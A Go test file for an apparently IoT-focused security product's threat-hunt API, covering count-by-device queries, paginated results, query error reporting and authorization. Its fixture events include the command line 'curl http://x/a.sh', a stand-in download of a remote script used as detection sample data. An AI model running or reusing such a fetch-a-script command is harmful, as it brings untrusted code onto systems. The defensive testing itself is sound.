package web

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/vigil-iot/vigil"
	"github.com/vigil-iot/vigil/store"
)

func huntEnv(t *testing.T) *env {
	e := newEnv(t, func(o *Options) {
		o.Extra = HuntRoutes(&Hunt{Src: o.Store.(store.Analytics), Clock: fixedClock(now)})
	})
	var evs []vigil.Event
	for i := range 150 {
		evs = append(evs, vigil.Event{ID: fmt.Sprint("e", i), Time: now.Add(-time.Duration(i) * time.Minute), DeviceID: fmt.Sprint("cam-", i%3), Kind: "process",
			Fields: map[string]any{"process.command_line": []string{"curl http://x/a.sh", "sshd"}[i%2]}})
	}
	if err := e.store.PutEvents(t.Context(), evs); err != nil {
		t.Fatal(err)
	}
	return e
}

func TestHuntAPI(t *testing.T) {
	e := huntEnv(t)
	var res HuntResponse
	post := func(role, body string, want int) []byte {
		t.Helper()
		code, b, _ := e.do("POST", "/api/v1/hunt", role, body)
		if code != want {
			t.Fatalf("POST /api/v1/hunt %s = %d %s, want %d", body, code, b, want)
		}
		return b
	}
	b := post("viewer", `{"query":"process.command_line=*CURL* | stats count by device.id"}`, 200)
	if err := json.Unmarshal(b, &res); err != nil {
		t.Fatal(err)
	}
	if fmt.Sprint(res.Columns, res.Rows) != "[device.id count] [[cam-0 25] [cam-1 25] [cam-2 25]]" || res.Truncated {
		t.Errorf("stats = %v %v truncated %v", res.Columns, res.Rows, res.Truncated)
	}
	// Events: a page, truncated, with the cursor of the next.
	b = post("viewer", `{"query":"process.command_line=*curl*","limit":50}`, 200)
	res = HuntResponse{}
	json.Unmarshal(b, &res)
	if len(res.Events) != 50 || !res.Truncated || res.Next == "" {
		t.Fatalf("page 1: %d events, truncated %v, next %q", len(res.Events), res.Truncated, res.Next)
	}
	b = post("viewer", `{"query":"process.command_line=*curl*","limit":50,"cursor":"`+res.Next+`"}`, 200)
	res = HuntResponse{}
	json.Unmarshal(b, &res)
	if len(res.Events) != 25 || res.Truncated || res.Next != "" {
		t.Fatalf("page 2: %d events, truncated %v, next %q", len(res.Events), res.Truncated, res.Next)
	}
	// A bad query says where.
	b = post("viewer", `{"query":"kind=auth AND"}`, 400)
	if errorCode(t, b) != vigil.EINVALID || !strings.Contains(string(b), "at position 14: expected a condition") {
		t.Errorf("bad query: %s", b)
	}
	post("", `{"query":"kind=auth"}`, 401)
	post("viewer", `{"query":"kind=auth","bogus":1}`, 400)
}
